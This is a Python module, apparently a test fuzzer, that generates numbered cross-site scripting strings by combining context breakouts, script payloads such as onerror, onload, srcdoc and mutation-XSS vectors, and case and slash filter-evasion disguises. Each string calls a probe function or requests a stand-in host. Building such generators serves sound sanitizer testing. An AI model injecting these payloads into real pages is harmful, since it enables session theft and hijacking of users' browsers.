"""Strings that run a script where a page takes text for markup: a way out, a script, a disguise.

Each calls `hit` with its own number; what is asked of `hostile.invalid` tells of it too.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator

WAYS_OUT = (
    *("", '">', "'>", "-->", "]]>", "</script>", "</style>", "</textarea>", "</title>", "</pre>"),
    *("</option></select>", '"><!--', "*/", "`}", "&quot;&gt;", '\\">'),
    *("\\] ", "](x) ", "**: ", "]]></cue>"),
)
"""Of an attribute, a comment, an element, a string of a script, a tag or link of a transcript."""

SCRIPTS = (
    "<script>hit(N)</script>",
    "<img src=x onerror=hit(N)>",
    "<svg onload=hit(N)>",
    "<svg><script>hit(N)</script></svg>",
    "<iframe srcdoc='<script>parent.hit(N)</script>'></iframe>",
    "<details open ontoggle=hit(N)>",
    "<input autofocus onfocus=hit(N)>",
    "<video><source onerror=hit(N)></video>",
    "<style>@import '//hostile.invalid/N';</style>",
    "<link rel=stylesheet href=//hostile.invalid/N>",
    "<img src=//hostile.invalid/N>",
    "<meta http-equiv=refresh content='0;url=//hostile.invalid/N'>",
    "<base href=//hostile.invalid/N/><script src=x></script>",
    "<math><mtext><table><mglyph><style><img src=x onerror=hit(N)>",
    '" autofocus onfocus=hit(N) x="',
    "' autofocus onfocus='hit(N)",
    '";hit(N);//',
    "';hit(N);//",
)

DISGUISES: tuple[Callable[[str], str], ...] = (
    lambda script: script,
    lambda script: script.replace("<s", "<S").replace("on", "oN"),
    lambda script: script.replace(" ", "/"),
)

COUNT = len(WAYS_OUT) * len(SCRIPTS) * len(DISGUISES)


def strings() -> Iterator[str]:
    """All of them, in the same order each time."""
    number = 0
    for way in WAYS_OUT:
        for script in SCRIPTS:
            for disguise in DISGUISES:
                yield way + disguise(script).replace("N", str(number))
                number += 1
